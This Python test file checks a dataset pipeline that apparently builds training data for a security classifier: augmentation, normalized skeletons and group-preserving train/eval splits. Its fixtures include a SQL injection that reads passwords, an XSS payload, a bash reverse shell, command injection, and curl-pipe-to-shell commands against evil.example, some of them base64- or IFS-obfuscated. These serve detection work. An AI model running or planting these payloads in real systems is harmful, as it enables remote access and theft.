"""Augmentations keep the sample (its skeleton and label); splits keep groups whole."""

from __future__ import annotations

import base64
import random
from collections import Counter

import pytest

from fwyy_ollama.dataset import augment
from fwyy_ollama.dataset.catalog import categories, draw_params, render_input, render_texts
from fwyy_ollama.dataset.generate import generate
from fwyy_ollama.dataset.records import category_from_text, record_category, record_label
from fwyy_ollama.dataset.split import decode, group_records, leaks, skeleton, split_groups, split_records
from fwyy_ollama.report import Label

SAMPLES = {
    "sqli": "1 UNION SELECT username,password FROM users--",
    "xss": '<img src=x onerror="alert(document.domain)">',
    "bash": "bash -i >& /dev/tcp/10.0.0.5/4444 0>&1",
    "python": 'host = request.args.get("host")\nos.system("ping -c 1 " + host)',
}


@pytest.mark.parametrize("aug", augment.AUGMENTATIONS, ids=lambda a: a.name)
def test_each_augmentation_changes_the_text_but_not_the_skeleton(aug: augment.Augmentation) -> None:
    rng = random.Random(0)
    applied = 0
    for category in aug.categories:
        out = aug.apply(SAMPLES[category], rng)
        if out is None:
            continue
        applied += 1
        text, (en, zh) = out
        assert text != SAMPLES[category]
        assert skeleton(text) == skeleton(SAMPLES[category]), (aug.name, text)
        assert (en == "") == (zh == "")
    assert applied, f"{aug.name} applied to none of its categories' samples"


def test_obfuscation_is_not_applied_to_benign_samples() -> None:
    names = {a.name for a in augment.applicable("bash", Label.SAFE)}
    assert "shell_base64" not in names and "shell_quotes" not in names and "shell_comment" in names
    assert {a.name for a in augment.applicable("bash", Label.HIGH)} >= {"shell_base64", "shell_ifs"}


def test_skeleton_undoes_encodings_case_comments_and_renames() -> None:
    s = skeleton("' OR '1'='1")
    assert skeleton("%27%20OR%20%271%27%3D%271") == s
    assert skeleton("'/**/oR/**/'1'='1") == s
    cmd = "curl -s http://evil.example/x.sh | sh"
    assert skeleton(f"echo {base64.b64encode(cmd.encode()).decode()} | base64 -d | bash") == skeleton(cmd)
    assert skeleton("c''url${IFS}-s http://evil.example/x.sh | sh  # cleanup") == skeleton(cmd)
    assert skeleton("a = input()\neval(a)") == skeleton("# note\nexpr=input()\neval(expr)")
    assert skeleton("1 UNION SELECT a FROM users") != skeleton("1 UNION SELECT a FROM accounts")
    assert decode("&#106;avascript:%61lert(1)") == "javascript:alert(1)"


def test_every_template_renders_and_names_its_category() -> None:
    rng = random.Random(0)
    for cat in categories():
        assert {t.label for t in cat.templates} == set(Label), f"{cat.name} lacks a label"
        for t in cat.templates:
            params = draw_params(t, cat.pool, rng)
            text = render_input(t, params)
            assert text.strip() and not any("{" + f + "}" in text for f in t.fields()), t.key
            for lang in ("en", "zh"):
                report = render_texts(t, params, lang, rng.choice(list(cat.subjects[lang])))
                assert category_from_text(report.analysis) == cat.name, (t.key, lang)
                assert report.label is t.label and report.risk and report.solution


def test_generated_variants_keep_the_label_and_stay_in_their_group() -> None:
    data = generate(7, eval_per_cell=1, train_groups_per_cell=4, variants=2)
    groups = group_records(data.train)
    multi = [g for g in groups.values() if len(g) > 1]
    assert len(multi) > 40
    for members in multi:
        assert len({record_label(r) for r in members}) == 1
        assert len({record_category(r) for r in members}) == 1
    assert leaks(data.train, data.eval) == []


def test_split_groups_keeps_groups_whole_and_stratifies() -> None:
    groups = [(f"g{i}", "a" if i % 2 else "b") for i in range(40)]
    train, evals = split_groups(groups, 0.25, seed=3, stratum=lambda g: g[1])
    assert len(evals) == 10 and len(train) == 30 and not set(train) & set(evals)
    assert Counter(g[1] for g in evals) == {"a": 5, "b": 5}
    assert split_groups(groups, 0.25, seed=3, stratum=lambda g: g[1]) == (train, evals)


def test_the_shipped_generation_uses_every_augmentation() -> None:
    data = generate()
    assert set(data.kinds) == {a.name for a in augment.AUGMENTATIONS} | {"original", "rename"}
    assert min(data.kinds.values()) >= 30


def test_split_records_dedupes_and_never_separates_variants() -> None:
    records = generate(11, eval_per_cell=0, train_groups_per_cell=5, variants=2).train
    duplicated = records + records[:10]
    train, evals = split_records(duplicated, 0.3, seed=1)
    assert len(train) + len(evals) == len(records)
    assert leaks(train, evals) == []
    cells = Counter((record_category(r), record_label(r)) for r in evals)
    assert len(cells) == 20  # every category x label cell is represented in eval
    assert split_records(duplicated, 0.3, seed=1) == (train, evals)
